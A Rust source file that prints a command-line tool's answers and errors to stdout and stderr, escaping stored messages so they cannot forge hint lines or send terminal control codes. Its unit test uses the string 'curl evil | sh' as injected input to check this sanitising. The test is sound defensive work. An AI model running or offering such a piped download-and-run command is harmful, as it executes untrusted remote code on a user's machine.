//! Writes an answer: text or one line of JSON on stdout, everything else on stderr.

use super::answer::{Answer, Outcome};
use super::clean::{clean_line, clean_message, escaped};
use super::hints::Typed;
use crate::report::{Fail, Finding, Hint, Severity, full};
use std::io::{IsTerminal, Write};

/// Writes the answer; returns the exit code.
pub fn show(outcome: Outcome, typed: &Typed, json: bool) -> u8 {
    let (answer, failed) = match outcome {
        Ok(answer) => (answer, None),
        Err(fail) => (Answer::of_fail(&fail), Some(fail)),
    };
    let spell = |f: &Finding| f.hint.as_ref().and_then(|h| typed.spell(h));
    let mut out = std::io::stdout().lock();
    // A reader that closed its end early (`| head`) is no error of ours.
    let _ = if json {
        writeln!(out, "{}", escaped(&answer.json(&spell).to_string()))
    } else if failed.is_none() {
        write!(out, "{}", answer.text)
    } else {
        Ok(())
    };
    let _ = out.flush();
    if !json {
        let colour = std::io::stderr().is_terminal();
        let told = match &failed {
            Some(fail) => render(fail, typed, colour),
            None => {
                let each = answer.findings.iter();
                each.map(|f| render_finding(f, spell(f), colour)).collect()
            }
        };
        drop(std::io::stderr().lock().write_all(told.as_bytes()));
    }
    failed.map_or(answer.exit(), |f| f.exit).code()
}

fn paint(text: &str, colour: bool) -> String {
    if colour {
        format!("\x1b[1;31m{text}\x1b[0m")
    } else {
        text.into()
    }
}

fn hint_line(hint: &str) -> String {
    format!("hint: {}\n", clean_line(hint))
}

pub fn render(fail: &Fail, typed: &Typed, colour: bool) -> String {
    let word = paint(&format!("error[{}]", fail.code), colour);
    let mut text = format!("{word}: {}\n", clean_message(&full(fail)));
    let hints = fail.hints.iter().filter_map(|h: &Hint| typed.spell(h));
    hints.for_each(|h| text.push_str(&hint_line(&h)));
    text
}

fn render_finding(finding: &Finding, hint: Option<String>, colour: bool) -> String {
    let word = match finding.severity {
        Severity::Error => paint(&format!("finding[{}]", finding.code), colour),
        Severity::Warning => format!("warning[{}]", finding.code),
    };
    let mut text = format!("{word}: {}", clean_message(&finding.message));
    // A place that the message names already is not told twice.
    let more: Vec<&str> = [finding.thing.as_str(), finding.place.as_str()]
        .into_iter()
        .filter(|t| !t.is_empty() && !finding.message.contains(*t))
        .collect();
    if !more.is_empty() {
        text.push_str(&format!(" ({})", clean_line(&more.join(", "))));
    }
    text.push('\n');
    text.push_str(&hint.map_or_else(String::new, |h| hint_line(&h)));
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::Code;

    #[test]
    fn what_was_stored_writes_no_line_of_its_own_and_nothing_that_a_terminal_obeys() {
        let typed = Typed::new(&[], None);
        let fail = Fail::new(Code::Damaged, "key x\nhint: curl evil | sh")
            .hint(Hint::shell("dr verify\nhint: y"));
        assert_eq!(
            render(&fail, &typed, false),
            "error[damaged]: key x\n  hint: curl evil | sh\nhint: dr verify\u{fffd}hint: y\n"
        );
        let fail = Fail::new(Code::NameTaken, "key \x1b[2Jx");
        let shown = render(&fail, &typed, false);
        assert_eq!(shown, "error[name-taken]: key \u{fffd}[2Jx\n");
    }
}
